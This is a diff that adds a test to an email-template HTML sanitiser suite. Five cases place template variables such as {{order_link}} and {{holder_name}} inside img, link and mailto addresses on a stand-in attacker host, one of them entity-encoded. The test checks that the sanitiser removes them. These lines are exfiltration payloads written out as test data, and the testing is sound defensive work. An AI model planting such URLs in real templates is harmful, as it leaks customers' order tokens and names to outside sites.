@@ -67,6 +67,25 @@ describe("a template's HTML", () => {
     expect(written?.text).toBe("Bună\nxy");
   });
 
+  it.each([
+    ["img", "src", "https://evil.example/x.png?{{order_link}}"],
+    ["img", "src", "https://{{ order_link }}.evil.example/x.png"],
+    ["img", "src", "https://evil.example/&#123;&#123;order_link}}"],
+    ["a", "href", "https://evil.example/?{{holder_name}}"],
+    ["a", "href", "mailto:hot@evil.example?body={{order_link}}"],
+  ])("gives no value to another site: an <%s> whose %s is %s loses it", (element, attribute, address) => {
+    const html = `<p>Bună</p><${element} ${attribute}='${address}'>x<a href="{{order_link}}">y</a>`;
+    expect(removedElements(html)).toEqual([`${element} ${attribute}`]);
+    expect(cleanHtml(html)).not.toContain("evil");
+    // also in a template that was saved before this was removed
+    const written = writeEdited(
+      { subject: "s", html, text: "" },
+      { order_link: "https://club.example/orders/1?token=secret", holder_name: "Ana" },
+    );
+    expect(written?.html).not.toContain("evil");
+    expect(written?.html).toContain('href="https://club.example/orders/1?token=secret"');
+  });
+
   it("keeps the usual parts of emails: tables, colours, pictures, links, variables", () => {
     const html =
       '<table width="100%" bgcolor="#F6F1E7" style="width:100%;background-color:#F6F1E7"><tbody><tr><td style="padding:14px 32px 18px;border-top:2px dashed #8E8672" align="center">' +
